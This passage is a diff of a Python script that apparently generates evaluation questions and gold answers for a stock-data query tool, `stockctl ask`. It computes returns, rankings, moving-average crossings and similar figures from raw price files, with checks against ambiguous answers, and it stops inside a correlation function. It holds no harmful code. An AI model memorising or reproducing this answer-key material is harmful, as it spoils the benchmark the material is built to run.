@@ -1,782 +1,1095 @@
 #!/usr/bin/env python3
-"""blind-6: questions for `stockctl ask` and their gold answers, computed from the raw files.
-Standard library only. Written blind (see README.md)."""
-import csv, json, math, os, statistics, sys
-from datetime import date, datetime, timedelta
+"""blind-7: questions for `stockctl ask` and their gold answers.
 
-HERE = os.path.dirname(os.path.abspath(__file__))
-DATA = os.environ.get("ASK_EVAL_DATA") or os.path.join(HERE, "..", "..", "..", "..", "shared", "data")
-DAILY = ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX", "NVDA", "TSLA"]
-ETFS = ["INDA", "FXY", "DBB"]
-ALL = DAILY + ETFS
-PROBLEMS = []
+Written blind: only FORMAT.md, three sections of dev-e/README.md, the intraday README and the raw data files were
+read. Every gold answer is computed here from the raw files (standard library only). Any failed ambiguity check
+stops the run before questions.jsonl is written.
+"""
+import csv, datetime as dt, hashlib, json, math, os, re, sys
+from pathlib import Path
 
-# ---------------- loading ----------------
-B = {}   # sym -> list of (date str, o, h, l, c, v)
-M = {}   # ETF -> list of ("YYYY-MM-DD HH:MM" NY, o, h, l, c, v)
+HERE = Path(__file__).resolve().parent
+REPO = HERE.parents[2]
+DATA = Path(os.environ.get('ASK_EVAL_DATA') or (REPO.parent / 'shared' / 'data'))
+OUT = HERE / 'questions.jsonl'
 
-def nth_sunday(y, m, n):
-    d = date(y, m, 1)
-    d += timedelta(days=(6 - d.weekday()) % 7)
-    return d + timedelta(days=7 * (n - 1))
+STOCKS = ['AAPL', 'AMD', 'AMZN', 'FB', 'GOOGL', 'IBM', 'INTC', 'JPM', 'KO', 'MSFT', 'NFLX', 'NVDA', 'TSLA']
+ETFS = ['INDA', 'FXY', 'DBB']
+TODAY = '2025-07-08'
 
-def utc_to_ny(s):
-    t = datetime.strptime(s[:16], "%Y-%m-%d %H:%M")
-    y = t.year
-    start = datetime.combine(nth_sunday(y, 3, 2), datetime.min.time()) + timedelta(hours=7)
-    end = datetime.combine(nth_sunday(y, 11, 1), datetime.min.time()) + timedelta(hours=6)
-    off = -4 if start <= t < end else -5
-    return (t + timedelta(hours=off)).strftime("%Y-%m-%d %H:%M")
 
+class CheckFailed(Exception):
+    pass
+
+
+def check(cond, msg):
+    if not cond:
+        raise CheckFailed(msg)
+
+
+# ---------------------------------------------------------------- time zone (US rules since 2007), own code
+def _nth_sunday(y, m, n):
+    d = dt.date(y, m, 1)
+    d += dt.timedelta(days=(6 - d.weekday()) % 7)
+    return d + dt.timedelta(weeks=n - 1)
+
+
+def utc_to_ny(t):
+    start = dt.datetime.combine(_nth_sunday(t.year, 3, 2), dt.time(7))   # 02:00 EST
+    end = dt.datetime.combine(_nth_sunday(t.year, 11, 1), dt.time(6))    # 02:00 EDT
+    return t - dt.timedelta(hours=4 if start <= t < end else 5)
+
+
+# ---------------------------------------------------------------- loading
 def load():
-    for s in DAILY:
+    daily, minutes = {}, {}
+    for s in STOCKS:
         rows = []
-        with open(os.path.join(DATA, "stocks", s.lower() + ".us.txt")) as f:
-            for r in csv.DictReader(f):
-                rows.append((r["Date"], float(r["Open"]), float(r["High"]), float(r["Low"]), float(r["Close"]), float(r["Volume"])))
+        with open(DATA / 'stocks' / (s.lower() + '.us.txt'), newline='') as f:
+            r = csv.reader(f)
+            check(next(r)[:6] == ['Date', 'Open', 'High', 'Low', 'Close', 'Volume'], s + ' header')
+            for rec in r:
+                if not rec:
+                    continue
+                d, o, h, l, c, v = rec[:6]
+                rows.append((d, float(o), float(h), float(l), float(c), float(v)))
         rows.sort()
-        B[s] = rows
-    d = os.path.join(DATA, "intraday")
-    for s in ETFS:
-        fn = [x for x in os.listdir(d) if x.startswith(s + "_") and x.endswith(".csv")][0]
-        mins = []
-        with open(os.path.join(d, fn)) as f:
-            for r in csv.DictReader(f):
-                mins.append((utc_to_ny(r["timestamp"]), float(r["open"]), float(r["high"]), float(r["low"]), float(r["close"]), float(r["volume"])))
-        mins.sort()
-        M[s] = mins
-        days = {}
-        for m in mins:
-            days.setdefault(m[0][:10], []).append(m)
-        rows = []
-        for dd in sorted(days):
-            ms = days[dd]
-            rows.append((dd, ms[0][1], max(x[2] for x in ms), min(x[3] for x in ms), ms[-1][4], sum(x[5] for x in ms)))
-        B[s] = rows
+        check(len({b[0] for b in rows}) == len(rows), s + ' duplicate dates')
+        daily[s] = rows
+    found = set()
+    for fn in sorted(os.listdir(DATA / 'intraday')):
+        if not fn.endswith('.csv'):
+            continue
+        s = fn.split('_')[0]
+        check(s in ETFS, 'unexpected intraday file ' + fn)
+        found.add(s)
+        bars = []
+        with open(DATA / 'intraday' / fn, newline='') as f:
+            r = csv.reader(f)
+            check(next(r)[:6] == ['timestamp', 'open', 'high', 'low', 'close', 'volume'], fn + ' header')
+            for rec in r:
+                if not rec:
+                    continue
+                ts, o, h, l, c, v = rec[:6]
+                t = utc_to_ny(dt.datetime.strptime(ts, '%Y-%m-%d %H:%M:%S'))
+                bars.append((t.strftime('%Y-%m-%d %H:%M'), float(o), float(h), float(l), float(c), float(v)))
+        bars.sort()
+        check(len({b[0] for b in bars}) == len(bars), s + ' duplicate minutes')
+        minutes[s] = bars
+        days = []
+        for b in bars:
+            d = b[0][:10]
+            if days and days[-1][0] == d:
+                x = days[-1]
+                days[-1] = (d, x[1], max(x[2], b[2]), min(x[3], b[3]), b[4], x[5] + b[5])
+            else:
+                days.append((d,) + b[1:])
+        daily[s] = days
+    check(found == set(ETFS), 'missing intraday files')
+    return daily, minutes
 
-F = {"open": 1, "high": 2, "low": 3, "close": 4, "volume": 5}
-IDX = {}
-def ix(s):
-    if s not in IDX:
-        IDX[s] = {r[0]: i for i, r in enumerate(B[s])}
-    return IDX[s]
 
-def is_session(s, d):
-    return d in ix(s)
+D, M = load()
+IDX = {s: {b[0]: i for i, b in enumerate(rows)} for s, rows in D.items()}
+SYMS = STOCKS + ETFS
+check(max(b[0] for s in ETFS for b in D[s]) == TODAY, 'data end is not ' + TODAY)
 
-def need_session(s, d):
-    if not is_session(s, d):
-        PROBLEMS.append("not a session: %s %s" % (s, d))
+FIELDS = {'open': 1, 'high': 2, 'low': 3, 'close': 4, 'volume': 5}
 
-def on_or_before(s, d):
-    rows = B[s]
-    lo, hi = 0, len(rows) - 1
-    ans = None
-    while lo <= hi:
+
+def fv(b, f):
+    if f == 'range':
+        return b[2] - b[3]
+    return b[FIELDS[f]]
+
+
+def tol(a):
+    """the scorer's tolerance for a number (FORMAT.md)"""
+    return max(0.001 * abs(a), 0.01 if abs(a) >= 1 else 0.0001)
+
+
+def distinct(a, b, k=2.0):
+    """a and b cannot be confused by the scorer, with a safety factor k"""
+    return abs(a - b) > k * max(tol(a), tol(b))
+
+
+def same(a, b):
+    """a and b are accepted for each other by the scorer"""
+    return abs(a - b) <= min(tol(a), tol(b))
+
+
+def has(s, d):
+    return d in IDX[s]
+
+
+def idx(s, d):
+    check(d in IDX[s], f'{s} has no bar on {d}')
+    return IDX[s][d]
+
+
+def bar(s, d):
+    return D[s][idx(s, d)]
+
+
+def ib(s, d):
+    """index of the last session of s on or before d"""
+    rows = D[s]
+    lo, hi = 0, len(rows)
+    while lo < hi:
         mid = (lo + hi) // 2
         if rows[mid][0] <= d:
-            ans = mid; lo = mid + 1
+            lo = mid + 1
         else:
-            hi = mid - 1
-    if ans is None:
-        PROBLEMS.append("no session on/before %s %s" % (s, d))
-    return ans
+            hi = mid
+    check(lo > 0, f'{s}: nothing on or before {d}')
+    return lo - 1
 
-def inda_hole(s, a, b):
-    if s == "INDA" and a <= "2025-02-10" and b >= "2023-10-17":
-        PROBLEMS.append("INDA hole %s..%s" % (a, b))
 
-def win(s, a, b):
-    inda_hole(s, a, b)
-    return [i for i, r in enumerate(B[s]) if a <= r[0] <= b]
+def window(s, d1, d2, min_n=1):
+    w = [b for b in D[s] if d1 <= b[0] <= d2]
+    check(len(w) >= min_n, f'{s}: {len(w)} sessions in {d1}..{d2}, want {min_n}')
+    return w
 
-def val(s, d, f):
-    need_session(s, d)
-    return B[s][ix(s)[d]][F[f]]
 
-def ret_i(s, i):
-    return B[s][i][4] / B[s][i - 1][4] - 1
+def ret_at(s, i):
+    check(i > 0, f'{s}: no previous session')
+    return D[s][i][4] / D[s][i - 1][4] - 1
 
-def rets(s, a, b, drop_first=False):
-    w = win(s, a, b)
-    if drop_first:
-        w = w[1:]
-    if w and w[0] == 0:
-        w = w[1:]
-    return [(B[s][i][0], ret_i(s, i)) for i in w]
 
-def rnd(x):
-    if isinstance(x, float):
-        if not math.isfinite(x):
-            PROBLEMS.append("non-finite")
-        y = round(x, 8)
-        return int(y) if y == int(y) and abs(y) < 1e15 and abs(x) >= 1 else y
+def rets(s, d1, d2, first=True):
+    """daily returns of the sessions in d1..d2; first=False drops the window's first session"""
+    w = window(s, d1, d2, 2)
+    out = [(b[0], ret_at(s, idx(s, b[0]))) for b in w if idx(s, b[0]) > 0]
+    if not first and out[0][0] == w[0][0]:
+        out = out[1:]
+    return out
+
+
+def sessions_gap_check(s, d1, d2):
+    """no hole of more than 6 calendar days in the window or just before it (INDA has one)"""
+    i0 = ib(s, d1)
+    if D[s][i0][0] == d1 and i0 > 0:
+        i0 -= 1
+    w = [b[0] for b in D[s][i0:] if b[0] <= d2]
+    for a, b in zip(w, w[1:]):
+        gap_days = (dt.date.fromisoformat(b) - dt.date.fromisoformat(a)).days
+        check(gap_days <= 6, f'{s}: hole {a}..{b}')
+
+
+def fmt(x):
+    if isinstance(x, bool):
+        raise CheckFailed('bool cell')
+    if isinstance(x, (int, float)):
+        check(math.isfinite(x), 'non-finite')
+        r = round(float(x), 8)
+        if r == int(r) and abs(r) < 1e15:
+            return int(r)
+        return r
     return x
 
-def close_enough(a, b):
-    if isinstance(a, str) or isinstance(b, str):
-        return a == b
-    if isinstance(a, int) and isinstance(b, int):
-        return a == b
-    tol = max(0.001 * abs(b), 0.01 if abs(b) >= 1 else 0.0001)
-    return abs(a - b) <= tol
 
-def same_rows(r1, r2):
-    return len(r1) == len(r2) and all(len(x) == len(y) and all(close_enough(p, q) for p, q in zip(x, y)) for x, y in zip(r1, r2))
+def gold(rows, match, exact):
+    return {'rows': [[fmt(c) for c in r] for r in rows], 'match': match, 'exact_rows': exact}
 
-def no_tie(vals, k, what, rel=0.001):
-    """vals sorted best first; check gap at positions 0..k (winner and cut-off)."""
-    for j in range(min(k, len(vals) - 1)):
-        a, b = vals[j], vals[j + 1]
-        if abs(a - b) <= rel * max(abs(a), abs(b), 1e-12):
-            PROBLEMS.append("near tie %s at %d: %r %r" % (what, j, a, b))
 
-QS = []
-def Q(kind, text, rows, match="first", exact=False, alts=()):
-    rows = [[rnd(c) for c in r] for r in rows]
-    for alt in alts:
-        alt = [[rnd(c) for c in r] for r in alt]
-        if not same_rows(rows, alt):
-            PROBLEMS.append("ambiguous reading for %r: %r vs %r" % (text, rows, alt))
-    QS.append({"kind": kind, "question": text, "answerable": True,
-               "gold": {"rows": rows, "match": match, "exact_rows": exact}})
+def first_row(*cells):
+    return gold([list(cells)], 'first', False)
 
-def R(refusal, text):
-    QS.append({"kind": refusal, "question": text, "answerable": False, "refusal": refusal})
 
-# ---------------- computations ----------------
-def latest(s, n, fields):
-    return [[r[0]] + [r[F[f]] for f in fields] for r in B[s][-n:]]
+# ---------------------------------------------------------------- gold computations by kind
+def g_latest(s, n, fields, asof=None, within=None):
+    if within:
+        rows = window(s, within[0], within[1])
+    else:
+        rows = D[s][:ib(s, asof or TODAY) + 1]
+    check(len(rows) >= n, 'not enough rows')
+    rows = rows[-n:]
+    return gold([[b[0]] + [fv(b, f) for f in fields] for b in rows], 'set', True)
 
-def range_rows(s, a, b, fields):
-    return [[B[s][i][0]] + [B[s][i][F[f]] for f in fields] for i in win(s, a, b)]
 
-def agg(s, a, b, f, how):
-    xs = [B[s][i][F[f]] for i in win(s, a, b)]
-    return {"avg": statistics.mean, "max": max, "min": min, "sum": sum}[how](xs)
+def regular_bar(s, d):
+    bars = [b for b in M[s] if b[0][:10] == d and '09:30' <= b[0][11:] <= '15:59']
+    check(bars, f'{s} no regular-session minutes on {d}')
+    return (d, bars[0][1], max(b[2] for b in bars), min(b[3] for b in bars), bars[-1][4], sum(b[5] for b in bars))
 
-def extreme_day(s, a, b, f, how):
-    w = win(s, a, b)
-    pairs = sorted(((B[s][i][F[f]], B[s][i][0]) for i in w), reverse=(how == "max"))
-    no_tie([abs(p[0]) if how == "max" else -p[0] for p in pairs][:2], 1, "extreme " + s)
-    return [[pairs[0][1], pairs[0][0]]]
 
-def wk52(s, d, how, days=364):
-    need_session(s, d)
-    a = (date.fromisoformat(d) - timedelta(days=days)).isoformat()
-    if B[s][0][0] > a:
-        PROBLEMS.append("52w history short %s %s" % (s, d))
-    w = win(s, a, d)
-    if how == "high":
-        return max(B[s][i][2] for i in w)
-    return min(B[s][i][3] for i in w)
+def etf_robust(s, d, fields):
+    """an ETF price on d reads the same from the regular session as from all minutes (FORMAT's daily bar)"""
+    if s not in ETFS:
+        return
+    for f in fields:
+        a, b = fv(bar(s, d), f), fv(regular_bar(s, d), f)
+        check(same(a, b), f'{s} {d} {f}: all-minute {a} vs regular-session {b}')
 
-def change(s, a, b, named_sessions=True):
-    if named_sessions:
-        need_session(s, a); need_session(s, b)
-    return B[s][on_or_before(s, b)][4] / B[s][on_or_before(s, a)][4] - 1
 
-def dret(s, d):
-    need_session(s, d)
-    i = ix(s)[d]
-    return ret_i(s, i)
+def prev_date(s, d):
+    i = idx(s, d)
+    check(i > 0, 'no previous session')
+    return D[s][i - 1][0]
 
-def gap(s, d):
-    need_session(s, d)
-    i = ix(s)[d]
-    return B[s][i][1] / B[s][i - 1][4] - 1
 
-def biggest_move(s, a, b, drop=False, sign=0):
-    rs = rets(s, a, b, drop)
-    key = (lambda x: abs(x[1])) if sign == 0 else (lambda x: sign * x[1])
-    rs = sorted(rs, key=key, reverse=True)
-    no_tie([key(x) for x in rs[:2]], 1, "bigmove " + s)
-    return [[rs[0][0], rs[0][1]]]
+def g_day(s, d, field):
+    if field != 'volume':
+        etf_robust(s, d, [field] if field != 'range' else ['high', 'low'])
+    return first_row(d, fv(bar(s, d), field))
 
-def check_rows(d):
-    """every daily symbol listed before d must have a row on d and the same previous session"""
-    pool = ETFS if d >= "2023" else DAILY
-    prevs = set()
-    for s in pool:
-        if s == "INDA" or B[s][0][0] >= d:
-            continue
-        if not is_session(s, d):
-            PROBLEMS.append("missing row %s %s" % (s, d)); continue
-        prevs.add(B[s][ix(s)[d] - 1][0])
-    if len(prevs) > 1:
-        PROBLEMS.append("previous sessions differ on %s: %s" % (d, prevs))
 
-def universe(d):
-    check_rows(d)
-    return [s for s in ALL if is_session(s, d)]
+def g_rows(s, d1, d2, fields, n=None):
+    w = window(s, d1, d2)
+    check(w[0][0] == d1 and w[-1][0] == d2, 'window ends must be sessions')
+    if n is not None:
+        check(len(w) == n, f'expected {n} rows, got {len(w)}')
+    return gold([[b[0]] + [fv(b, f) for f in fields] for b in w], 'set', True)
 
-def xrank(d, measure, n, desc=True):
+
+def g_agg(s, d1, d2, field, op, min_n=5, robust_ends=False):
+    w = window(s, d1, d2, min_n)
+
+    def calc(ws):
+        xs = [fv(b, field) for b in ws]
+        return {'avg': sum(xs) / len(xs), 'sum': sum(xs), 'max': max(xs), 'min': min(xs)}[op]
+    v = calc(w)
+    if robust_ends:  # "between" read exclusively gives the same answer
+        check(same(v, calc(w[1:-1])), 'aggregate depends on inclusive/exclusive ends')
+    return first_row(v)
+
+
+def g_extreme(s, d1, d2, field, op, min_n=5):
+    w = window(s, d1, d2, min_n)
+    xs = sorted(((fv(b, field), b[0]) for b in w), reverse=(op == 'max'))
+    check(distinct(xs[0][0], xs[1][0]), f'extreme not unique: {xs[:2]}')
+    return first_row(xs[0][1], xs[0][0])
+
+
+def hi52(s, d, back):
+    start = (dt.date.fromisoformat(d) - dt.timedelta(days=back)).isoformat()
+    w = [b for b in D[s] if start <= b[0] <= d]
+    return max(b[2] for b in w), min(b[3] for b in w)
+
+
+def g_52w(s, d, which):
+    check(has(s, d), '52w date must be a session')
+    a, b = hi52(s, d, 364), hi52(s, d, 365)
+    check(a == b, '52-week window length matters')
+    check(D[s][0][0] <= (dt.date.fromisoformat(d) - dt.timedelta(days=365)).isoformat(), 'less than a year of data')
+    hi, lo = a
+    return {'high': first_row(hi), 'low': first_row(lo), 'range': first_row(lo, hi)}[which]
+
+
+def change(s, d1, d2):
+    return D[s][ib(s, d2)][4] / D[s][ib(s, d1)][4] - 1
+
+
+def g_change(s, d1, d2, sessions=True):
+    if sessions:
+        idx(s, d1), idx(s, d2)
+    return first_row(change(s, d1, d2))
+
+
+def g_ret(s, d):
+    etf_robust(s, d, ['close'])
+    if s in ETFS:
+        etf_robust(s, prev_date(s, d), ['close'])
+    return first_row(d, ret_at(s, idx(s, d)))
+
+
+def g_gap(s, d):
+    etf_robust(s, d, ['open'])
+    if s in ETFS:
+        etf_robust(s, prev_date(s, d), ['close'])
+    i = idx(s, d)
+    check(i > 0, 'no previous session')
+    return first_row(d, D[s][i][1] / D[s][i - 1][4] - 1)
+
+
+def g_bigmove(s, d1, d2, mode):
+    sessions_gap_check(s, d1, d2)
+
+    def pick(first):
+        rs = rets(s, d1, d2, first)
+        key = {'up': lambda x: x[1], 'down': lambda x: -x[1], 'abs': lambda x: abs(x[1])}[mode]
+        rs = sorted(rs, key=key, reverse=True)
+        check(distinct(key(rs[0]), key(rs[1])), 'biggest move not unique')
+        return rs[0]
+    a, b = pick(True), pick(False)
+    check(a == b, 'biggest move depends on the first session')
+    if mode == 'abs':
+        check(a[1] > 0, 'abs winner negative: sign would be ambiguous')
+    if mode == 'up':
+        check(a[1] > 0, 'no gain')
+    if mode == 'down':
+        check(a[1] < 0, 'no loss')
+    return first_row(a[0], a[1])
+
+
+def metric_on(s, d, metric):
+    i = idx(s, d)
+    b = D[s][i]
+    if metric == 'return':
+        return ret_at(s, i)
+    if metric == 'gap':
+        check(i > 0, 'no previous')
+        return b[1] / D[s][i - 1][4] - 1
+    return fv(b, metric)
+
+
+def ranked(rows, n, desc, label):
+    rows = sorted(rows, key=lambda r: r[1], reverse=desc)
+    check(len(rows) >= n, f'{label}: universe too small')
+    for a, b in zip(rows[:n], rows[1:n + 1]):
+        check(distinct(a[1], b[1]), f'{label}: tie near rank {a} {b}')
+    return rows[:n]
+
+
+def g_rank(d, metric, n, desc, singular=False, expect_universe=None):
+    uni = [s for s in SYMS if has(s, d)]
+    if expect_universe is not None:
+        check(len(uni) == expect_universe, f'universe on {d} is {len(uni)}')
+    rows = [[s, metric_on(s, d, metric)] for s in uni]
+    top = ranked(rows, n, desc, f'rank {d}')
+    return gold(top, 'first', False) if singular else gold(top, 'ordered', True)
+
+
+def g_gainers(d1, d2, n, desc, singular=False, expect_universe=None):
+    uni = [s for s in SYMS if has(s, d1) and has(s, d2)]
+    if expect_universe is not None:
+        check(len(uni) == expect_universe, f'universe {d1}..{d2} is {len(uni)}')
+    rows = [[s, change(s, d1, d2)] for s in uni]
+    top = ranked(rows, n, desc, f'gainers {d1}..{d2}')
+    return gold(top, 'first', False) if singular else gold(top, 'ordered', True)
+
+
+def g_named(values, mode, higher=True):
+    """values: [[sym, v], ...]; mode 'which' (winner first, ordered) or 'compare' (set)"""
+    check(distinct(values[0][1], values[1][1]), 'named comparison too close')
+    if mode == 'which':
+        rows = sorted(values, key=lambda r: r[1], reverse=higher)
+        return gold(rows, 'ordered', True)
+    return gold(values, 'set', True)
+
+
+def period_value(s, d1, d2, what):
+    w = window(s, d1, d2)
+    if what == 'avg_close':
+        return sum(b[4] for b in w) / len(w)
+    if what == 'avg_volume':
+        return sum(b[5] for b in w) / len(w)
+    if what == 'avg_range':
+        return sum(b[2] - b[3] for b in w) / len(w)
+    if what == 'sum_volume':
+        return sum(b[5] for b in w)
+    if what == 'max_high':
+        return max(b[2] for b in w)
+    if what == 'min_low':
+        return min(b[3] for b in w)
+    if what == 'last_close':
+        return w[-1][4]
+    raise CheckFailed('unknown period value ' + what)
+
+
+def g_grouped(s, periods, what, n):
+    check(len(periods) == n, 'period count')
+    return gold([[period_value(s, a, b, what)] for a, b in periods], 'ordered', True)
+
+
+def g_pop(s, later, earlier, what):
+    a = period_value(s, *later, what)
+    b = period_value(s, *earlier, what)
+    return first_row(a, b, a / b - 1)
+
+
+def ma_series(s, n):
+    """dict date -> n-session MA of closes (n=1: the close)"""
+    rows = D[s]
+    return {b[0]: sum(x[4] for x in rows[i - n + 1:i + 1]) / n for i, b in enumerate(rows) if i >= n - 1}
+
+
+def g_ma(s, d, n):
+    i = idx(s, d)
+    check(i >= n - 1, 'MA undefined')
+    return first_row(d, sum(b[4] for b in D[s][i - n + 1:i + 1]) / n)
+
+
+def crossings(s, fast, slow, direction):
+    f, sl = ma_series(s, fast), ma_series(s, slow)
+    ds = [b[0] for b in D[s] if b[0] in f and b[0] in sl]
     out = []
-    for s in universe(d):
-        i = ix(s)[d]
-        r = B[s][i]
-        v = {"ret": lambda: ret_i(s, i), "range": lambda: r[2] - r[3], "volume": lambda: r[5],
-             "gap": lambda: r[1] / B[s][i - 1][4] - 1, "rangepct": lambda: (r[2] - r[3]) / r[4]}[measure]()
-        out.append((v, s))
-    out.sort(reverse=desc)
-    no_tie([x[0] for x in out], n, "xrank %s %s" % (d, measure))
-    return [[s, v] for v, s in out[:n]]
+    for a, b in zip(ds, ds[1:]):
+        fa, sa, fb, sb = f[a], sl[a], f[b], sl[b]
+        up = fa < sa and fb > sb
+        dn = fa > sa and fb < sb
+        if (direction == 'above' and up) or (direction == 'below' and dn):
+            out.append(b)
+    return out, f, sl, ds
 
-def movers(a, b, n, desc=True, syms=None):
-    out = []
-    for s in (syms or ALL):
-        if is_session(s, a) and is_session(s, b):
-            inda_hole(s, a, b)
-            out.append((change(s, a, b), s))
-    out.sort(reverse=desc)
-    no_tie([x[0] for x in out], n, "movers %s %s" % (a, b))
-    return [[s, v] for v, s in out[:n]]
 
-def compare(syms, a, b, fn):
-    out = sorted(((fn(s, a, b), s) for s in syms), reverse=True)
-    no_tie([x[0] for x in out], 1, "compare")
-    return [[s, v] for v, s in out]
+def g_cross(s, fast, slow, direction, lo=None, hi=None, pick='first', strict_lo=True, strict_hi=True, unique=False):
+    out, f, sl, ds = crossings(s, fast, slow, direction)
+    lo_ok = (lambda d: d > lo) if strict_lo else (lambda d: d >= lo)
+    hi_ok = (lambda d: d < hi) if strict_hi else (lambda d: d <= hi)
+    cand = [d for d in out if (lo is None or lo_ok(d)) and (hi is None or hi_ok(d))]
+    check(cand, f'{s}: no crossing in range')
+    if lo is not None and strict_lo:
+        check(lo not in out, 'the bound itself is a crossing day')
+    if hi is not None and strict_hi:
+        check(hi not in out, 'the bound itself is a crossing day')
+    if unique:
+        check(len(cand) == 1, f'crossing not unique: {cand}')
+    d = cand[0] if pick == 'first' else cand[-1]
+    # no tie between the series anywhere near the crossing
+    k = ds.index(d)
+    for x in ds[max(0, k - 10):k + 10]:
+        check(abs(f[x] - sl[x]) > 1e-9 * abs(sl[x]), 'series tie near crossing')
+    # no exact tie anywhere in the searched range, so a >= / <= reading finds the same days
+    for x in ds:
+        if (lo is None or x >= lo) and (hi is None or x <= hi):
+            check(f[x] != sl[x], 'series tie in range')
+    return first_row(d)
 
-def month_ends(s, y, f="close"):
-    out = []
-    for m in range(1, 13):
-        w = win(s, "%d-%02d-01" % (y, m), "%d-%02d-31" % (y, m))
-        if w:
-            out.append([B[s][w[-1]][F[f]]])
-    return out
 
-def grouped(s, periods, f, how):
-    return [[agg(s, a, b, f, how)] for a, b in periods]
+def g_count(s, d1, d2, pred_kind, thr, min_n=5):
+    """pred_kind: close_above, close_below, volume_above, ret_below (thr negative), ret_above, absret_above, up"""
+    w = window(s, d1, d2, min_n)
+    if pred_kind.startswith('ret') or pred_kind.startswith('absret') or pred_kind == 'up':
+        sessions_gap_check(s, d1, d2)
+        vals = {'first': [r for _, r in rets(s, d1, d2, True)], 'nofirst': [r for _, r in rets(s, d1, d2, False)]}
+    else:
+        f = {'close_above': 'close', 'close_below': 'close', 'volume_above': 'volume'}[pred_kind]
+        vals = {'first': [fv(b, f) for b in w]}
 
-def pop(s, p_later, p_earlier, f, how="avg"):
-    x = agg(s, p_later[0], p_later[1], f, how)
-    y = agg(s, p_earlier[0], p_earlier[1], f, how)
-    return [[x, y, x / y - 1]]
+    def cnt(xs, strict):
+        if pred_kind in ('close_above', 'volume_above', 'ret_above', 'up'):
+            return sum(1 for x in xs if (x > thr if strict else x >= thr))
+        if pred_kind in ('close_below', 'ret_below'):
+            return sum(1 for x in xs if (x < thr if strict else x <= thr))
+        if pred_kind == 'absret_above':
+            return sum(1 for x in xs if (abs(x) > thr if strict else abs(x) >= thr))
+    c = cnt(vals['first'], True)
+    check(c == cnt(vals['first'], False), 'threshold tie')
+    # values sitting within display rounding of the threshold would make the count fragile
+    for x in vals['first']:
+        y = abs(x) if pred_kind == 'absret_above' else x
+        check(abs(y - thr) > 1e-6 * max(1.0, abs(thr)), f'value {x} too close to threshold {thr}')
+    if 'nofirst' in vals:
+        check(c == cnt(vals['nofirst'], True), 'count depends on first session')
+    check(c > 0, 'zero count')
+    return first_row(c)
 
-def sma(s, d, n, i=None):
-    if i is None:
-        need_session(s, d); i = ix(s)[d]
-    if i + 1 < n:
-        return None
-    return sum(B[s][j][4] for j in range(i - n + 1, i + 1)) / n
 
-def cross(s, fast, slow, after, direction, before="9999"):
-    """first session > after (strict) where fast crosses slow in direction; fast/slow: int N or 'close'"""
-    def v(kind, i):
-        return B[s][i][4] if kind == "close" else sma(s, None, kind, i)
-    rows = B[s]
-    for i in range(1, len(rows)):
-        if rows[i][0] <= after or rows[i][0] >= before:
-            continue
-        a0, b0, a1, b1 = v(fast, i - 1), v(slow, i - 1), v(fast, i), v(slow, i)
-        if None in (a0, b0, a1, b1):
-            continue
-        if (direction > 0 and a0 < b0 and a1 > b1) or (direction < 0 and a0 > b0 and a1 < b1):
-            for j in (i - 1, i):
-                if abs(v(fast, j) - v(slow, j)) < 1e-9:
-                    PROBLEMS.append("cross tie %s" % s)
-            return rows[i][0]
-    PROBLEMS.append("no cross %s" % s)
+def g_crosscount(d, pred_kind, thr, expect_universe=None):
+    uni = [s for s in SYMS if has(s, d)]
+    if expect_universe is not None:
+        check(len(uni) == expect_universe, f'universe {len(uni)}')
+    c = 0
+    for s in uni:
+        if pred_kind == 'up':
+            x = metric_on(s, d, 'return'); ok = x > 0; check(x != 0, 'flat symbol')
+        elif pred_kind == 'down':
+            x = metric_on(s, d, 'return'); ok = x < 0; check(x != 0, 'flat symbol')
+        elif pred_kind == 'ret_below':
+            x = metric_on(s, d, 'return'); ok = x < thr
+        elif pred_kind == 'gap_up':
+            x = metric_on(s, d, 'gap'); ok = x > 0; check(x != 0, 'zero gap')
+        elif pred_kind == 'close_above':
+            x = metric_on(s, d, 'close'); ok = x > thr
+        elif pred_kind == 'volume_above':
+            x = metric_on(s, d, 'volume'); ok = x > thr
+        else:
+            raise CheckFailed(pred_kind)
+        if thr is not None:
+            check(abs(x - thr) > 1e-4 * max(1.0, abs(thr)), f'{s} too close to threshold')
+        c += ok
+    return first_row(c)
 
-def count_ret(s, a, b, pred, thr, drop=False):
-    rs = rets(s, a, b, drop)
-    for d, r in rs:
-        if abs(abs(r) - abs(thr)) < 1e-7:
-            PROBLEMS.append("on threshold %s %s" % (s, d))
-    return sum(1 for d, r in rs if pred(r))
 
-def count_field(s, a, b, f, pred, thr):
-    w = win(s, a, b)
-    for i in w:
-        if abs(B[s][i][F[f]] - thr) < 1e-9:
-            PROBLEMS.append("field on threshold %s" % s)
-    return sum(1 for i in w if pred(B[s][i][F[f]]))
+def g_vol(s, d1, d2, min_n=15):
+    sessions_gap_check(s, d1, d2)
+    a = stdev([r for _, r in rets(s, d1, d2, True)])
+    b = stdev([r for _, r in rets(s, d1, d2, False)])
+    check(min_n <= len(rets(s, d1, d2)), 'too few returns')
+    check(same(a, b), f'volatility depends on first session: {a} {b}')
+    return first_row(a)
 
-def xcount(d, pred, syms=None):
-    check_rows(d)
-    n = 0
-    for s in (syms or ALL):
-        if is_session(s, d):
-            r = dret(s, d)
-            if abs(r) < 1e-12:
-                PROBLEMS.append("flat in xcount %s %s" % (s, d))
-            n += pred(r)
-    return n
 
-def vol(s, a, b, drop=False):
-    return statistics.stdev([r for d, r in rets(s, a, b, drop)])
+def stdev(xs):
+    n = len(xs)
+    mu = sum(xs) / n
+    return math.sqrt(sum((x - mu) ** 2 for x in xs) / (n - 1))
 
-def corr(s1, s2, a, b, drop=False):
-    r1 = dict(rets(s1, a, b, drop)); r2 = dict(rets(s2, a, b, drop))
-    ds = sorted(set(r1) & set(r2))
-    return statistics.correlation([r1[d] for d in ds], [r2[d] for d in ds])
 
-def streak(s, a, b, up=True, drop=False):
-    rs = rets(s, a, b, drop)
-    best = []; cur = []
+def pearson(xs, ys):
+    n = len(xs)
+    mx, my = sum(xs) / n, sum(ys) / n
+    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
+    sxx = sum((x - mx) ** 2 for x in xs)
+    syy = sum((y - my) ** 2 for y in ys)
+    return sxy / math.sqrt(sxx * syy)
+
+
+def corr(a, b, d1, d2, first):
+    ra, rb = dict(rets(a, d1, d2, first)), dict(rets(b, d1, d2, first))
+    common = sorted(set(ra) & set(rb))
+    check(len(common) >= 15, 'too few common dates')
+    return pearson([ra[d] for d in common], [rb[d] for d in common])
+
+
+def g_corr(a, b, d1, d2):
+    sessions_gap_check(a, d1, d2)
+    sessions_gap_check(b, d1, d2)
+    x, y = corr(a, b, d1, d2, True), corr(a, b, d1, d2, False)
